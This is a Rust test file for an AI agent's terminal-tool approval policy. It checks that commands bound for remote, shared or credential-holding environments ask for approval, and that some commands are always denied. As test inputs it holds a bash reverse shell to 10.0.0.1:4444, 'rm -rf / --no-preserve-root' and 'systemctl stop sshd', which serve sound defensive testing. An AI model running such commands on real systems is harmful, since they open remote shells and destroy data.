//! What is asked about elsewhere, and that the question says where it would run.

use std::sync::{Arc, Mutex};

use hermes::core::call::ToolCall;
use hermes::core::policy::{Answer, ApprovalRequest};
use serde_json::{Value, json};

use crate::support::Bench;

/// Nothing of these can be reached: what gets as far as them was not asked about.
fn bench(more: &Value) -> Bench {
    let mut terminal = json!({
        "backend": "local",
        "environments": {
            "lab": { "backend": "ssh", "host": "lab.invalid", "binary": "/no/such/ssh" },
            "box": { "backend": "docker", "binary": "/no/such/docker" },
            "open": { "backend": "docker", "binary": "/no/such/docker", "volumes": ["/srv:/srv"] },
        },
    });
    terminal.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    Bench::new(&terminal)
}

/// What was asked, and what came of it.
fn tried(bench: &Bench, place: &str, command: &str) -> (Vec<String>, String) {
    let asked = Arc::new(Mutex::new(Vec::new()));
    let keep = Arc::clone(&asked);
    let approver = move |request: &ApprovalRequest| {
        keep.lock().unwrap().push(format!("{:?}", request.effects));
        Answer::Refused { by: "you".to_owned(), why: "no".to_owned() }
    };
    let session = bench.guarded().build().unwrap().session().approver(Arc::new(approver)).open().unwrap();
    let arguments = json!({ "command": command, "environment": place }).to_string();
    let body = session.call_blocking(ToolCall::new("terminal", arguments)).body;
    let asked = asked.lock().unwrap().clone();
    (asked, body)
}

#[test]
fn what_is_disposable_asks_less_and_what_is_shared_or_remote_asks_as_this_machine_does() {
    let bench = bench(&json!({}));
    let stop = "systemctl stop sshd";

    for (place, named) in [("default", "local"), ("lab", "lab"), ("open", "open")] {
        let (asked, body) = tried(&bench, place, stop);
        assert_eq!(asked.len(), 1, "{place}: {body}");
        assert!(asked[0].contains(&format!("environment: \"{named}\"")), "{place}: {}", asked[0]);
        assert!(body.contains("denied"), "{body}");
    }
    let (asked, body) = tried(&bench, "box", stop);
    assert_eq!(asked, Vec::<String>::new());
    assert!(body.contains("/no/such/docker"), "{body}");
    // What leaves it is asked about there too.
    assert_eq!(tried(&bench, "box", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").0.len(), 1);
    // And what is never allowed is not allowed there.
    let (asked, body) = tried(&bench, "lab", "rm -rf / --no-preserve-root");
    assert!(asked.is_empty() && body.contains("denied"), "{body}");
}

#[test]
fn a_container_that_is_given_credential_files_is_no_longer_disposable() {
    let bench = bench(&json!({ "credential_files": ["token.json"] }));

    assert_eq!(tried(&bench, "box", "systemctl stop sshd").0.len(), 1);
}

#[test]
fn a_call_can_choose_only_where_there_is_a_choice_and_only_what_is_configured() {
    let definitions = |bench: &Bench| {
        let runtime = bench.runtime();
        let session = runtime.session().open().unwrap();
        let toolbox = session.toolbox_blocking();
        let terminal = toolbox.offered().iter().find(|tool| tool.name().as_ref() == "terminal");
        terminal.unwrap().json().to_owned()
    };

    assert!(definitions(&bench(&json!({}))).contains("\"environment\""));
    let one = Bench::new(&json!({ "backend": "docker", "docker_binary": "/no/such/docker" }));
    assert!(!definitions(&one).contains("\"environment\""));
    let (_, body) = tried(&bench(&json!({})), "other", "true");
    assert!(body.contains("expected one of") && body.contains("other"), "{body}");
}
